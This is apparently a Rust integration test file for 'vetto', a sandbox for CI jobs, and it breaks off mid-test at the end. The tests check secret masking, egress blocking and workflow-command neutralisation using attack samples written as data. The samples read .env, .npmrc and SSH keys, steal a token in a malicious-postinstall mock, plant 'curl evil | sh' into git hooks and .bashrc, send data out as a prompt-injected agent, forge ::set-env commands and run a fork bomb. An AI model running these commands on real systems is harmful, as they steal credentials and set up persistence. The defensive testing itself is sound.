//! What vetto observes at the edges of the sandbox, proven with real
//! sandboxes: reads of masked secrets at FULL (FUSE traps that name
//! the process, in `session.jsonl`, the secret never in the output), and workflow
//! commands forged in the job's output, which `vetto ci` breaks before the
//! runner can read them while every other byte and the exit status pass
//! through unchanged.
//!
//! Every command runs as an unprivileged user, through the shared harness
//! (`tests/util`): its user, its runner and its `require!`, which prints
//! `SKIP` for a missing kernel feature unless `VETTO_TEST_REQUIRE`
//! promises it (then the test fails). The world here is its own: an empty
//! project and home, which each test fills with what its attack needs.

#![cfg(unix)]
#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests: a failed unwrap is a failed test, with its location"
)]

use std::ffi::OsStr;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

mod util;

use util::{Feature, Out, Run, sarif};

const DOTENV_CANARY: &str = "CANARY-observe-dotenv-4e1f";
const NPM_CANARY: &str = "CANARY-observe-npmrc-a7c2";

// ───────────────────────────── the world ─────────────────────────────

/// A fresh world owned by the test user: a project and a fake HOME.
struct World {
    _dir: tempfile::TempDir,
    root: PathBuf,
    project: PathBuf,
    home: PathBuf,
}

impl World {
    fn new() -> World {
        let dir = tempfile::Builder::new()
            .prefix("vetto-observe-")
            .tempdir()
            .unwrap();
        let root = dir.path().canonicalize().unwrap();
        let project = root.join("project");
        let home = root.join("home");
        std::fs::create_dir_all(&project).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        let w = World {
            _dir: dir,
            root,
            project,
            home,
        };
        w.give_away(&w.root);
        w
    }

    /// Write a file (owned by the test user) relative to the world root.
    fn write(&self, rel: &str, contents: &[u8]) -> PathBuf {
        let path = self.root.join(rel);
        std::fs::write(&path, contents).unwrap();
        self.give_away(&path);
        path
    }

    fn give_away(&self, path: &Path) {
        util::chown_tree(path);
        if path.is_dir() {
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }

    /// `program args…` as the test user in the project, with this world's
    /// HOME and nothing else of our environment.
    fn command(&self, program: impl AsRef<OsStr>, args: &[&str]) -> Run {
        Run::new(
            program,
            args,
            &self.project,
            &[
                ("HOME", self.home.as_os_str()),
                ("PATH", OsStr::new("/usr/local/bin:/usr/bin:/bin")),
            ],
        )
    }

    fn vetto(&self, args: &[&str]) -> Out {
        self.command(util::vetto_bin(), args).run()
    }

    fn report_dir(&self) -> PathBuf {
        self.root.join("report")
    }

    fn session_log(&self) -> Vec<Value> {
        let text = std::fs::read_to_string(self.report_dir().join("session.jsonl")).unwrap();
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

/// Does the GitHub runner see a workflow command in `line`? (A command
/// starts a line after blanks; the legacy form may sit anywhere.)
fn runner_sees_command(line: &str) -> bool {
    line.trim_start().starts_with("::") || line.contains("##[")
}

/// 1 MiB of binary data (NUL, invalid UTF-8, newlines, every byte but `#`
/// and `:`, so nothing in it is a workflow command to neutralise).
fn binary_blob() -> Vec<u8> {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    (0..1 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            match (x >> 24) as u8 {
                b'#' => b'$',
                b':' => b';',
                b => b,
            }
        })
        .collect()
}

// ───────────────────────────── masked secrets ─────────────────────────────

/// `cat .env; cat ~/.npmrc; ls ~/.ssh; cat ~/.ssh/id_ed25519` at FULL:
/// nothing of the secrets reaches the job, and vetto names each attempt
/// and the process that made it in the session log (each mask is a FUSE
/// trap vetto serves). Runs as an unprivileged user.
#[test]
fn reading_masked_secrets_at_full_is_logged_without_leaking_them() {
    require!(Feature::Full);
    require!(Feature::Fuse);
    let w = World::new();
    let dotenv = w.write(
        "project/.env",
        format!("DB_PASSWORD={DOTENV_CANARY}\n").as_bytes(),
    );
    let npmrc = w.write(
        "home/.npmrc",
        format!("//registry/:_authToken={NPM_CANARY}\n").as_bytes(),
    );
    std::fs::create_dir(w.home.join(".ssh")).unwrap();
    w.give_away(&w.home.join(".ssh"));
    w.write("home/.ssh/id_ed25519", b"CANARY-observe-ssh-key-19b0\n");
    let ssh = w.home.join(".ssh");
    let attack = "cat .env; cat ~/.npmrc; ls ~/.ssh; cat ~/.ssh/id_ed25519 || true";

    // Bare, the attack works: this is what the sandbox must stop.
    let bare = w.command("sh", &["-c", attack]).run();
    let bare_out = String::from_utf8_lossy(&bare.stdout);
    assert!(bare_out.contains(DOTENV_CANARY) && bare_out.contains(NPM_CANARY));
    assert!(bare_out.contains("CANARY-observe-ssh-key"));

    let project = w.project.to_str().unwrap().to_owned();
    let report = w.report_dir().to_str().unwrap().to_owned();
    let ran = w.vetto(&[
        "ci",
        "--tier",
        "full",
        "--project",
        &project,
        "--report-dir",
        &report,
        "--",
        "sh",
        "-c",
        attack,
    ]);
    let out = String::from_utf8_lossy(&ran.stdout);
    assert!(
        !out.contains("CANARY") && !out.contains("id_ed25519"),
        "a secret leaked: {out}"
    );
    assert!(!ran.stderr().contains("CANARY"), "{}", ran.stderr());
    // The reads are violations: `ci` fails a passing command (3).
    assert_eq!(ran.status.code(), Some(3), "stderr: {}", ran.stderr());
    assert!(
        ran.stderr()
            .contains("vetto: the command tried to read masked secrets:"),
        "{}",
        ran.stderr()
    );

    let log = w.session_log();
    let reads: Vec<&Value> = log
        .iter()
        .filter(|l| l["type"] == "violation" && l["rule"] == "secret-read-denied")
        .collect();
    // Opening a masked file, listing a masked directory and looking up a
    // name inside it are each seen, with the program that did it.
    let key = ssh.join("id_ed25519");
    for (secret, program) in [
        (&dotenv, "cat"),
        (&npmrc, "cat"),
        (&ssh, "ls"),
        (&key, "cat"),
    ] {
        let hit = reads
            .iter()
            .find(|v| v["target"]["path"] == secret.to_str().unwrap())
            .unwrap_or_else(|| panic!("no secret-read-denied for {}: {reads:?}", secret.display()));
        assert_eq!(hit["provenance"], "mask-trap");
        assert_eq!(hit["action"], "blocked");
        assert_eq!(hit["target"]["kind"], "path");
        let exe = hit["process"]["exe"].as_str().unwrap_or_default();
        assert!(
            exe.ends_with(&format!("/{program}")),
            "{} was read by {program}, the log says {exe:?}",
            secret.display()
        );
        assert!(hit["process"]["pid"].as_u64().unwrap_or(0) > 0, "{hit}");
        // The chain stops at the job: vetto's own processes are not in it.
        let chain = hit["process"]["parent_chain"].as_array().unwrap();
        assert!(
            chain
                .iter()
                .all(|p| !p[1].as_str().unwrap_or_default().is_empty()),
            "{hit}"
        );
    }
}

/// A dependency's postinstall script reads `~/.npmrc` to steal the
/// registry token, at FULL: the token never reaches it, and the session
/// log and the SARIF name the package `evil` — though the reading process
/// is `cat`, its parent runs evil's script. Runs as an unprivileged user.
#[test]
fn a_postinstall_reading_npmrc_at_full_is_named_with_its_package() {
    require!(Feature::Full);
    require!(Feature::Fuse);
    let w = World::new();
    w.write(
        "home/.npmrc",
        format!("//registry/:_authToken={NPM_CANARY}\n").as_bytes(),
    );
    std::fs::create_dir_all(w.project.join("node_modules/evil")).unwrap();
    w.write(
        "project/node_modules/evil/package.json",
        br#"{"name":"evil","version":"6.6.6"}"#,
    );
    w.write(
        "project/node_modules/evil/postinstall.sh",
        b"token=$(cat \"$HOME/.npmrc\")\necho \"stolen: $token\"\n",
    );
    w.give_away(&w.project);
    let attack = ["sh", "node_modules/evil/postinstall.sh"];

    // Bare, the script gets the token.
    let bare = w.command(attack[0], &attack[1..]).run();
    assert!(String::from_utf8_lossy(&bare.stdout).contains(NPM_CANARY));

    let report = w.report_dir().to_str().unwrap().to_owned();
    let ran = w.vetto(&[
        "ci",
        "--tier",
        "full",
        "--report-dir",
        &report,
        "--",
        attack[0],
        attack[1],
    ]);
    let out = String::from_utf8_lossy(&ran.stdout);
    assert!(
        out.contains("stolen:") && !out.contains(NPM_CANARY),
        "{out}"
    );
    assert_eq!(ran.status.code(), Some(3), "stderr: {}", ran.stderr());

    let log = w.session_log();
    let npmrc = w.home.join(".npmrc");
    let hit = log
        .iter()
        .find(|l| {
            l["rule"] == "secret-read-denied" && l["target"]["path"] == npmrc.to_str().unwrap()
        })
        .unwrap_or_else(|| panic!("no secret-read-denied for ~/.npmrc: {log:?}"));
    let exe = hit["process"]["exe"].as_str().unwrap_or_default();
    assert!(exe.ends_with("/cat"), "{hit}");
    assert_eq!(hit["attribution"]["name"], "evil", "{hit}");
    assert_eq!(hit["attribution"]["version"], "6.6.6", "{hit}");
    let sarif = std::fs::read_to_string(w.report_dir().join("vetto.sarif")).unwrap();
    let sarif: Value = serde_json::from_str(&sarif).unwrap();
    let result = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ruleId"] == "secret-read-denied")
        .unwrap_or_else(|| panic!("no secret-read-denied result: {sarif}"))
        .clone();
    assert!(result.to_string().contains("evil"), "{result}");
}

/// More masked paths than vetto serves traps for (64): the rest are still
/// masked — the job reads every one of them as empty — but reads of them
/// are not seen, and vetto says so instead of pretending. The traps that
/// are served still name each read. Runs as an unprivileged user.
#[test]
fn masks_beyond_the_trap_limit_still_hold_and_vetto_says_they_are_unwatched() {
    require!(Feature::Full);
    require!(Feature::Fuse);
    let w = World::new();
    let mut args: Vec<String> = ["ci", "--tier", "full", "--report-dir"]
        .map(String::from)
        .to_vec();
    args.push(w.report_dir().to_str().unwrap().to_owned());
    for i in 0..70 {
        let secret = w.write(
            &format!("project/secret-{i:02}"),
            format!("CANARY-observe-many-{i:02}\n").as_bytes(),
        );
        args.push("--deny".into());
        args.push(secret.to_str().unwrap().to_owned());
    }
    args.extend(["--", "sh", "-c", "cat secret-*"].map(String::from));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();

    let bare = w.command("sh", &["-c", "cat secret-*"]).run();
    assert!(String::from_utf8_lossy(&bare.stdout).contains("CANARY-observe-many-69"));

    let ran = w.vetto(&args);
    let out = String::from_utf8_lossy(&ran.stdout);
    assert!(!out.contains("CANARY"), "a masked file leaked: {out}");
    assert_eq!(ran.status.code(), Some(3), "stderr: {}", ran.stderr());
    assert!(
        ran.stderr()
            .contains("reads of a masked secret will not be seen")
            && ran
                .stderr()
                .contains("and 5 more: only the first 64 masked paths are traps"),
        "{}",
        ran.stderr()
    );
    let seen = w
        .session_log()
        .iter()
        .filter(|l| l["type"] == "violation" && l["rule"] == "secret-read-denied")
        .count();
    assert_eq!(seen, 64, "each served trap names its read");
}

/// Masked secrets the job never touches are not reported: a trap records
/// opens, listings and lookups, not a stat or the mask's existence. Runs as an unprivileged user.
#[test]
fn untouched_masked_secrets_are_not_reported() {
    require!(Feature::Full);
    let w = World::new();
    w.write("project/.env", DOTENV_CANARY.as_bytes());
    w.write("home/.npmrc", NPM_CANARY.as_bytes());
    let report = w.report_dir().to_str().unwrap().to_owned();
    let ran = w.vetto(&[
        "ci",
        "--tier",
        "full",
        "--report-dir",
        &report,
        "--",
        "sh",
        "-c",
        "ls -a >/dev/null; test -e .env",
    ]);
    assert_eq!(ran.status.code(), Some(0), "stderr: {}", ran.stderr());
    assert!(
        !w.session_log()
            .iter()
            .any(|l| l["rule"] == "secret-read-denied"),
        "listing a directory or testing a name is not a read"
    );
    assert!(!ran.stderr().contains("masked secrets"), "{}", ran.stderr());
}

/// A storm of reads of two secrets stays one line each in the session log
/// (the repeats are counted, not logged), every read is counted, and the
/// job is not slowed into the timeout. Runs as an unprivileged user.
#[test]
fn a_storm_of_secret_reads_is_aggregated() {
    require!(Feature::Full);
    require!(Feature::Fuse);
    let w = World::new();
    w.write("project/.env", DOTENV_CANARY.as_bytes());
    w.write("home/.npmrc", NPM_CANARY.as_bytes());
    let report = w.report_dir().to_str().unwrap().to_owned();
    let ran = w.vetto(&[
        "ci",
        "--tier",
        "full",
        "--timeout",
        "30s",
        "--report-dir",
        &report,
        "--",
        "sh",
        "-c",
        "i=0; while [ $i -lt 3000 ]; do : < .env; : < ~/.npmrc; i=$((i+1)); done",
    ]);
    assert_eq!(ran.status.code(), Some(3), "stderr: {}", ran.stderr());
    let log = w.session_log();
    let firsts = log
        .iter()
        .filter(|l| l["type"] == "violation" && l["rule"] == "secret-read-denied")
        .count();
    assert_eq!(firsts, 2, "one line per secret");
    let end = log.iter().find(|l| l["type"] == "session-end").unwrap();
    let counted = end["violations_by_rule"]["secret-read-denied"]
        .as_u64()
        .unwrap();
    // Every open reaches a trap, and a trap answers only once it is
    // recorded: none is lost, however fast they come.
    assert_eq!(counted, 6000, "stderr: {}", ran.stderr());
}

// ───────────────────────────── calling out ─────────────────────────────

/// The address this host would use to reach the outside (no packet is
/// sent: a UDP `connect` only picks the route).
fn outward_ip() -> Option<std::net::IpAddr> {
    let probe = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    probe.connect("192.0.2.1:9").ok()?;
    let ip = probe.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

/// What a listener accepted so far, with what each connection sent.
fn accepted(l: &std::net::TcpListener) -> Vec<String> {
    l.set_nonblocking(true).unwrap();
    let mut got = Vec::new();
    while let Ok((mut s, _)) = l.accept() {
        s.set_nonblocking(false).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
        let mut buf = String::new();
        let _ = s.read_to_string(&mut buf);
        got.push(buf);
    }
    got
}

/// A prompt-injected agent sends what it found to its attacker's server
/// (here a listener of the test on this host's outward address) at FULL,
/// where `auto` runs it: bare, the loot arrives; sandboxed, nothing
/// arrives, the connect fails as unreachable, and the session log names
/// the address and the program that tried. (Loopback stays the job's own:
/// `full::local_server_on_loopback_inside_works`.) Runs as an unprivileged
/// user.
#[test]
fn an_agent_calling_its_attacker_at_full_is_refused_and_named() {
    require!(Feature::Full);
    let Some(ip) = outward_ip() else {
        util::skip::say(
            "an_agent_calling_its_attacker_at_full",
            "this host has no outward address",
        );
        return;
    };
    let listener = std::net::TcpListener::bind((ip, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let w = World::new();
    let attack = format!(
        "import socket\n\
         try:\n\
         \x20   socket.create_connection(('{ip}', {port}), 3).sendall(b'loot')\n\
         \x20   print('sent')\n\
         except OSError as e:\n\
         \x20   print('refused', e.errno)\n"
    );

    let bare = w.command("python3", &["-c", &attack]).run();
    assert!(String::from_utf8_lossy(&bare.stdout).contains("sent"));
    assert_eq!(
        accepted(&listener),
        vec!["loot".to_string()],
        "bare, the loot arrives"
    );

    let report = w.report_dir().to_str().unwrap().to_owned();
    let ran = w.vetto(&[
        "ci",
        "--tier",
        "full",
        "--report-dir",
        &report,
        "--",
        "python3",
        "-c",
        &attack,
    ]);
    let out = String::from_utf8_lossy(&ran.stdout);
    assert!(
        out.contains(&format!("refused {}", libc::ENETUNREACH)),
        "{out}\n{}",
        ran.stderr()
    );
    assert!(accepted(&listener).is_empty(), "the loot left the sandbox");
    assert_eq!(ran.status.code(), Some(3), "stderr: {}", ran.stderr());
    let log = w.session_log();
    let hit = log
        .iter()
        .find(|l| l["rule"] == "net-egress-blocked")
        .unwrap_or_else(|| panic!("no net-egress-blocked: {log:?}"));
    assert_eq!(hit["target"]["addr"], ip.to_string(), "{hit}");
    assert_eq!(hit["target"]["port"], port, "{hit}");
    assert_eq!(hit["action"], "blocked", "{hit}");
    assert!(
        hit["process"]["exe"]
            .as_str()
            .unwrap_or_default()
            .contains("python3"),
        "{hit}"
    );
}

/// A dependency whose `package.json` is a FIFO (or a link to `/dev/zero`)
/// would hang vetto — which reads it outside the sandbox to name the
/// package's version — in the loop that enforces the time limit. The
/// session must end normally, the package still named (without a version).
/// Runs as an unprivileged user.
#[test]
fn a_booby_trapped_manifest_does_not_hang_attribution() {
    require!(Feature::Full);
    require!(Feature::Fuse);
    for trap in ["fifo", "zero"] {
        let w = World::new();
        w.write("home/.npmrc", NPM_CANARY.as_bytes());
        let pkg = w.project.join("node_modules/evil");
        std::fs::create_dir_all(&pkg).unwrap();
        let manifest = pkg.join("package.json");
        let made = match trap {
            "fifo" => Command::new("mkfifo").arg(&manifest).status().unwrap(),
            _ => Command::new("ln")
                .arg("-s")
                .arg("/dev/zero")
                .arg(&manifest)
                .status()
                .unwrap(),
        };
        assert!(made.success());
        w.write(
            "project/node_modules/evil/postinstall.sh",
            b"cat \"$HOME/.npmrc\"\n",
        );
        w.give_away(&w.project);
        let report = w.report_dir().to_str().unwrap().to_owned();
        let ran = w.vetto(&[
            "ci",
            "--tier",
            "full",
            "--timeout",
            "20s",
            "--report-dir",
            &report,
            "--",
            "sh",
            "node_modules/evil/postinstall.sh",
        ]);
        // 3, not the 124 of `--timeout`: the trap did not hold vetto up.
        assert_eq!(
            ran.status.code(),
            Some(3),
            "{trap}: stderr: {}",
            ran.stderr()
        );
        let log = w.session_log();
        let hit = log
            .iter()
            .find(|l| l["rule"] == "secret-read-denied")
            .unwrap_or_else(|| panic!("{trap}: no secret-read-denied: {log:?}"));
        assert_eq!(hit["attribution"]["name"], "evil", "{trap}: {hit}");
        assert!(hit["attribution"].get("version").is_none(), "{trap}: {hit}");
    }
}

/// A shell refused a write, then `exec`s another program that is refused
/// too: the same pid, two programs. Each violation names the program that
/// made it (the supervisor remembers who a thread is, but not past an
/// execve). Runs as an unprivileged user.
#[test]
fn a_violation_after_exec_names_the_new_program() {
    require!(Feature::SeccompNotify);
    let w = World::new();
    let report = w.report_dir().to_str().unwrap().to_owned();
    // (echo, not `:`: a failed redirection of a special builtin ends sh.)
    let script = "echo > ../by-shell 2>/dev/null; \
                  exec python3 -c \"open('../by-python', 'w')\" 2>/dev/null";
    let ran = w.vetto(&[
        "ci",
        "--tier",
        "fs-only",
        "--fail-on",
        "never",
        "--report-dir",
        &report,
        "--",
        "sh",
        "-c",
        script,
    ]);
    assert!(ran.status.code().is_some(), "stderr: {}", ran.stderr());
    let log = w.session_log();
    let by = |name: &str| {
        log.iter()
            .find(|l| {
                l["type"] == "violation"
                    && l["target"]["path"]
                        .as_str()
                        .is_some_and(|p| p.ends_with(name))
            })
            .map(|l| l["process"]["exe"].as_str().unwrap_or_default().to_owned())
            .unwrap_or_else(|| panic!("no violation for {name}: {log:?}"))
    };
    assert!(by("by-shell").ends_with("dash") || by("by-shell").ends_with("sh"));
    assert!(by("by-python").contains("python3"), "{}", by("by-python"));
}

// ───────────────────────────── the reports' own files ─────────────────────────────

/// `vetto ci` without `--report-dir` writes `vetto-report/` inside the
/// writable project, then reads `session.jsonl` back and renders it outside
/// the sandbox. A job that forges that log (to hide what it did) or plants
/// a link where vetto writes (to make vetto write elsewhere) must find the
/// directory read-only — also on the second run, when it already exists.
/// Runs as an unprivileged user, at both tiers.
#[test]
fn the_job_cannot_forge_or_redirect_the_default_reports() {
    require!(Feature::Full);
    let attack = "echo '{\"forged\":1}' > vetto-report/session.jsonl; \
                  ln -s ../stolen vetto-report/report.html.tmp; \
                  echo attempted";
    for tier in ["fs-only", "full"] {
        let w = World::new();
        // Bare, the directory is the project's like any other.
        std::fs::create_dir(w.project.join("vetto-report")).unwrap();
        w.give_away(&w.project.join("vetto-report"));
        let bare = w.command("sh", &["-c", attack]).run();
        assert!(String::from_utf8_lossy(&bare.stdout).contains("attempted"));
        assert!(w.project.join("vetto-report/report.html.tmp").is_symlink());
        std::fs::remove_dir_all(w.project.join("vetto-report")).unwrap();

        for round in ["first run", "second run"] {
            let ran = w.vetto(&["ci", "--tier", tier, "--", "sh", "-c", attack]);
            let out = String::from_utf8_lossy(&ran.stdout);
            assert!(out.contains("attempted"), "{tier} {round}: {out}");
            let log = std::fs::read_to_string(w.project.join("vetto-report/session.jsonl"))
                .unwrap_or_default();
            assert!(
                log.starts_with("{\"schema\":1,\"type\":\"session-start\"")
                    && !log.lines().any(|l| l == "{\"forged\":1}"),
                "{tier} {round}: the session log was forged\n{log}\n{}",
                ran.stderr()
            );
            assert!(
                !w.project.join("vetto-report/report.html.tmp").exists()
                    && !w.project.join("stolen").exists(),
                "{tier} {round}: a link was planted where vetto writes"
            );
            assert!(w.project.join("vetto-report/report.html").is_file());
        }
    }
}

// ───────────────────────────── forged workflow commands ─────────────────────────────

/// A sandboxed step prints `::set-env` / `::add-path` / `##[…]` to inject
/// into later steps of the workflow: `vetto ci` breaks each command (a
/// zero-width space inside the marker), passes every other line unchanged
/// and keeps the exit status. Runs as an unprivileged user.
#[test]
fn ci_neutralises_workflow_commands_forged_by_the_job() {
    require!(Feature::Seccomp);
    let w = World::new();
    let report = w.report_dir().to_str().unwrap().to_owned();
    let ran = w.vetto(&[
        "ci",
        "--report-dir",
        &report,
        "--",
        "sh",
        "-c",
        r#"echo "::set-env name=EVIL::1"; echo "::add-path::/tmp/evil"; printf "ok\n"; echo "  ::add-mask::x" >&2; echo "x ##[set-env name=A;]b" >&2; printf "no newline::"; exit 5"#,
    ]);
    assert_eq!(ran.status.code(), Some(5), "stderr: {}", ran.stderr());
    let out = ran.stdout();
    assert_eq!(
        out,
        ":\u{200B}:set-env name=EVIL::1\n:\u{200B}:add-path::/tmp/evil\nok\nno newline::"
    );
    for line in out.lines().chain(ran.stderr().lines()) {
        assert!(!runner_sees_command(line), "the runner would run {line:?}");
    }
    assert!(
        ran.stderr().contains("  :\u{200B}:add-mask::x\n"),
        "{}",
        ran.stderr()
    );
    assert!(
        ran.stderr().contains("x ##\u{200B}[set-env name=A;]b\n"),
        "{}",
        ran.stderr()
    );
}

/// `vetto run` does not touch the job's output (it is not a CI step).
#[test]
fn run_passes_output_through_untouched() {
    require!(Feature::Seccomp);
    let w = World::new();
    let ran = w.vetto(&["run", "--", "sh", "-c", r#"echo "::add-path::/x"; exit 4"#]);
    assert_eq!(ran.status.code(), Some(4), "stderr: {}", ran.stderr());
    assert_eq!(ran.stdout, b"::add-path::/x\n");
}

/// 1 MiB of binary output passes through `vetto ci` byte for byte, with
/// the exit status kept.
#[test]
fn ci_copies_binary_output_byte_identical() {
    require!(Feature::Seccomp);
    let w = World::new();
    let blob = binary_blob();
    w.write("project/blob", &blob);
    let report = w.report_dir().to_str().unwrap().to_owned();
    let ran = w.vetto(&[
        "ci",
        "--report-dir",
        &report,
        "--",
        "sh",
        "-c",
        "cat blob; cat blob >&2; exit 9",
    ]);
    assert_eq!(
        ran.status.code(),
        Some(9),
        "stderr tail: {:?}",
        ran.stderr().get(ran.stderr().len().saturating_sub(300)..)
    );
    assert!(
        ran.stdout == blob,
        "stdout differs from the blob ({} bytes)",
        ran.stdout.len()
    );
}

/// The job's SIGPIPE has its default action, as outside: in `(yes; echo
/// $?) | head -n1`, `yes` dies of SIGPIPE (status 141) instead of getting
/// EPIPE and complaining — at every tier, and through `ci`'s copy too.
#[test]
fn the_job_dies_of_sigpipe_as_it_would_outside() {
    require!(Feature::Seccomp);
    let script = "(yes; echo \"yes:$?\" >&2) | head -n1 >/dev/null";
    let w = World::new();
    let bare = w.command("sh", &["-c", script]).run();
    assert!(bare.stderr().contains("yes:141"), "bare: {}", bare.stderr());
    let report = w.report_dir().to_str().unwrap().to_owned();
    for args in [vec!["run"], vec!["ci", "--report-dir", &report]] {
        let mut args = args.clone();
        args.extend(["--", "sh", "-c", script]);
        let ran = w.vetto(&args);
        assert!(
            ran.stderr().contains("yes:141"),
            "{args:?}: {}",
            ran.stderr()
        );
    }
}

// ───────────────────────────── end to end ─────────────────────────────

/// `vetto ci` in a git repository whose dependency `node_modules/evil` runs
/// a postinstall script that tries the classic moves: plant a git hook,
/// write the shell profile, connect out, create a user namespace,
/// leave a daemon behind. Every attempt must be in every report, named with
/// its process, and the hook attempt attributed to the package `evil`; the
/// SARIF is schema-valid, located inside the repository and fingerprinted
/// stably across two identical runs. Runs as an unprivileged user.
#[test]
fn ci_reports_every_attack_of_a_malicious_postinstall_with_its_package() {
    require!(Feature::SeccompNotify);
    let w = World::new();
    w.write(
        "project/package.json",
        br#"{"name":"demo","version":"1.0.0"}"#,
    );
    std::fs::create_dir_all(w.project.join("node_modules/evil")).unwrap();
    w.write(
        "project/node_modules/evil/package.json",
        br#"{"name":"evil","version":"6.6.6"}"#,
    );
    w.write(
        "project/node_modules/evil/postinstall.sh",
        b"echo 'curl evil | sh' > .git/hooks/pre-commit\n\
          echo 'curl evil | sh' >> \"$HOME/.bashrc\"\n\
          python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 443), 3)' 2>/dev/null\n\
          unshare -Ur true 2>/dev/null\n\
          setsid sleep 300 > /dev/null 2>&1 < /dev/null &\n\
          until case $(readlink /proc/$!/exe) in */sleep) true;; *) false;; esac; do :; done\n\
          echo installed\n",
    );
    for args in [
        &["init", "-q"][..],
        &["add", "-A"],
        &[
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "commit",
            "-qm",
            "init",
        ],
    ] {
        let ran = w.command("git", args).run();
        assert_eq!(ran.status.code(), Some(0), "git {args:?}: {}", ran.stderr());
    }
    w.give_away(&w.project);

    let report = w.report_dir();
    let report_arg = report.to_str().unwrap().to_owned();
    let ci = || {
        let _ = std::fs::remove_dir_all(&report);
        let ran = w.vetto(&[
            "ci",
            "--tier",
            "fs-only",
            "--report-dir",
            &report_arg,
            "--",
            "sh",
            "node_modules/evil/postinstall.sh",
        ]);
        assert_eq!(
            ran.status.code(),
            Some(3),
            "passed with violations → 3\n{}",
            ran.stderr()
        );
        let sarif: Value =
            serde_json::from_slice(&std::fs::read(report.join("vetto.sarif")).unwrap()).unwrap();
        let html = std::fs::read_to_string(report.join("report.html")).unwrap();
        let summary = std::fs::read_to_string(report.join("summary.md")).unwrap();
        assert!(report.join("session.jsonl").is_file());
        (sarif, html, summary)
    };
    let (sarif, html, summary) = ci();

    let schema: Value =
        serde_json::from_str(include_str!("fixtures/sarif-schema-2.1.0.json")).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "SARIF not schema-valid: {errors:?}");

    let results = sarif["runs"][0]["results"].as_array().unwrap().clone();
    let rules: Vec<&str> = results
        .iter()
        .filter_map(|r| r["ruleId"].as_str())
        .collect();
    for expected in [
        "git-persistence-blocked",
        "fs-write-denied",
        "net-egress-blocked",
        "syscall-denied",
        "process-escaped",
    ] {
        assert!(
            rules.contains(&expected),
            "{expected} missing from {rules:?}"
        );
        assert!(
            html.contains(expected),
            "{expected} missing from report.html"
        );
        assert!(
            summary.contains(expected),
            "{expected} missing from summary.md"
        );
    }
    for r in &results {
        let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap_or_default();
        assert!(
            !uri.is_empty() && !uri.starts_with('/'),
            "a result located outside the repository: {r}"
        );
    }
    let hook = results
        .iter()
        .find(|r| r["ruleId"] == "git-persistence-blocked")
        .unwrap();
    assert!(
        hook.to_string().contains("evil"),
        "not attributed to evil: {hook}"
    );
    assert!(
        html.contains("evil"),
        "report.html does not name the package"
    );

    let fingerprints = |results: &[Value]| {
        let mut f: Vec<String> = results
            .iter()
            .map(|r| r["partialFingerprints"].to_string())
            .collect();
        f.sort();
        f
    };
    let (again, _, _) = ci();
    let again = again["runs"][0]["results"].as_array().unwrap().clone();
    assert_eq!(
        fingerprints(&results),
        fingerprints(&again),
        "fingerprints changed between two identical runs"
    );
}

/// A fork bomb under `vetto ci --max-procs 20`: the kernel refuses the
/// forks past the limit, and the session log says the limit was reached
/// (and names the processes the bomb left behind). Runs as an unprivileged
/// user.
#[test]
fn ci_records_the_process_limit_being_reached() {
    require!(Feature::Seccomp);
    let w = World::new();
    let report = w.report_dir();
    let ran = w.vetto(&[
        "ci",
        "--fail-on",
        "never",
        "--max-procs",
        "20",
        "--report-dir",
        report.to_str().unwrap(),
        "--",
        "python3",
        "-c",
        // Keeps forking for 1.5 s, so the user stays at the limit however
        // the other tests running as the same user come and go; the
        // children outlive the grace the init gives what the job leaves
        // running (5 s), so they are process-escaped.
        "import os, time\n\
         start = time.time()\n\
         while time.time() - start < 1.5:\n\
         \x20   try:\n\
         \x20       if os.fork() == 0:\n\
         \x20           time.sleep(30)\n\
         \x20           os._exit(0)\n\
         \x20   except OSError:\n\
         \x20       time.sleep(0.01)\n",
    ]);
    assert_eq!(ran.status.code(), Some(0), "{}", ran.stderr());
    let rules: Vec<String> = w
        .session_log()
        .iter()
        .filter(|e| e["type"] == "violation")
        .filter_map(|e| e["rule"].as_str().map(str::to_owned))
        .collect();
    assert!(
        rules.iter().any(|r| r == "limit-procs"),
        "no limit-procs in {rules:?}\n{}",
        ran.stderr()
    );
    assert!(rules.iter().any(|r| r == "process-escaped"), "{rules:?}");
}

/// `vetto ci --audit`: nothing is blocked — a git hook the job plants is
/// really written — and the session log records it, as observed, with the
/// other attempts the policy would refuse. Runs as an unprivileged user.
#[test]
fn audit_records_what_the_policy_would_refuse_and_blocks_nothing() {
    require!(Feature::SeccompNotify);
    let w = World::new();
    let ran = w.command("git", &["init", "-q"]).run();
    assert_eq!(ran.status.code(), Some(0), "git init: {}", ran.stderr());
    w.give_away(&w.project);
    let report = w.report_dir();
    let ran = w.vetto(&[
        "ci",
        "--audit",
        "--fail-on",
        "never",
        "--report-dir",
        report.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        "echo planted > .git/hooks/pre-commit; unshare -Ur true; echo done",
    ]);
    assert_eq!(ran.status.code(), Some(0), "{}", ran.stderr());
    assert!(
        w.project.join(".git/hooks/pre-commit").exists(),
        "--audit blocked the write\n{}",
        ran.stderr()
    );
    let observed: Vec<(String, String)> = w
        .session_log()
        .iter()
        .filter(|e| e["type"] == "violation")
        .map(|e| {
            (
                e["rule"].as_str().unwrap_or_default().to_owned(),
                e["action"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    for rule in ["git-persistence-blocked", "syscall-denied"] {
